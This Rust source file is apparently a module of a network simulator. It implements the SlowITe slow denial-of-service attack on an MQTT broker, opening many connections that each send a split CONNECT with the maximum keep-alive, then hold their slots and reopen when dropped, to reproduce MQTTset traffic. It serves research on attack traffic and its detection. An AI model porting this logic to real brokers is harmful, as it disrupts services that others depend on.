//! SlowITe (Vaccari et al.'s slow DoS): many connections, each sending a CONNECT with the
//! longest keep-alive (65535 s) in two writes (30 bytes, then the last 2, as the MQTTset
//! capture shows) and then holding its slot silently; a dropped connection is reopened.

use std::collections::HashMap;

use serde::{Deserialize, Serialize};

use super::{drain_messages, AttackCtx};
use crate::apps::App;
use crate::encode;
use crate::net::{AppId, Net, Note, SockId};

/// Phases.
pub const PHASES: &[&str] = &["hold"];

/// Parameters.
#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Params {
    /// Connections to hold (MQTTset Table 3: 9,202 packets at ~10 per connection).
    pub connections: u32,
    /// New connections per second while opening.
    pub open_rate: f64,
    /// Keep-alive announced, seconds.
    pub keep_alive: u16,
    /// Pause between the two writes of a CONNECT, ms.
    pub split_ms: f64,
}

impl Default for Params {
    fn default() -> Self {
        Params {
            connections: 900,
            open_rate: 1500.0,
            keep_alive: 65535,
            split_ms: 0.2,
        }
    }
}

/// The running attack.
pub struct Attack {
    p: Params,
    ctx: AttackCtx,
    opened: u32,
    pending: HashMap<SockId, Vec<u8>>,
    ids: HashMap<SockId, u32>,
}

impl Attack {
    /// A new attack.
    pub fn new(p: Params, ctx: AttackCtx) -> Attack {
        Attack {
            p,
            ctx,
            opened: 0,
            pending: HashMap::new(),
            ids: HashMap::new(),
        }
    }

    fn open(&mut self, net: &mut Net, me: AppId) {
        let sock = net.connect(
            me,
            self.ctx.host,
            self.ctx.target,
            self.ctx.mqtt_port,
            self.ctx.tags[0],
            None,
        );
        self.ids.insert(sock, self.opened);
        self.opened += 1;
    }
}

const OPEN: u64 = u64::MAX;

impl App for Attack {
    fn start(&mut self, net: &mut Net, me: AppId) {
        net.timer(me, self.ctx.start, OPEN);
    }

    fn on(&mut self, net: &mut Net, me: AppId, note: Note) {
        match note {
            Note::Timer(OPEN) => {
                let total = (f64::from(self.p.connections) * self.ctx.scale).round() as u32;
                if net.now >= self.ctx.end || self.opened >= total {
                    return;
                }
                self.open(net, me);
                let gap = (1e9 / self.p.open_rate.max(1e-3)) as i64;
                net.timer(me, net.now + gap, OPEN);
            }
            Note::Timer(sock) => {
                let sock = sock as SockId;
                if let Some(rest) = self.pending.remove(&sock) {
                    net.send(sock, &rest);
                }
            }
            Note::Connected(sock) => {
                let n = self.ids.get(&sock).copied().unwrap_or(0);
                let id = format!("slowiteslowitesl{n}");
                let m = encode::connect(&encode::Connect {
                    version: self.ctx.version,
                    client_id: id.as_bytes(),
                    keep_alive: self.p.keep_alive,
                    clean: true,
                    ..encode::Connect::default()
                });
                let cut = m.len().saturating_sub(2).max(1);
                net.send(sock, &m[..cut]);
                *net.mqtt_sent
                    .entry((self.ctx.tags[0], encode::kind::CONNECT))
                    .or_insert(0) += 1;
                self.pending.insert(sock, m[cut..].to_vec());
                net.timer(me, net.now + (self.p.split_ms * 1e6) as i64, sock as u64);
            }
            Note::Data(sock) => {
                drain_messages(net, sock);
            }
            Note::PeerClosed(sock) => {
                net.close(sock);
            }
            Note::Reset(sock) | Note::Closed(sock) => {
                self.pending.remove(&sock);
                self.ids.remove(&sock);
                if net.now < self.ctx.end {
                    self.opened = self.opened.saturating_sub(1);
                    self.open(net, me);
                }
            }
            _ => {}
        }
    }
}
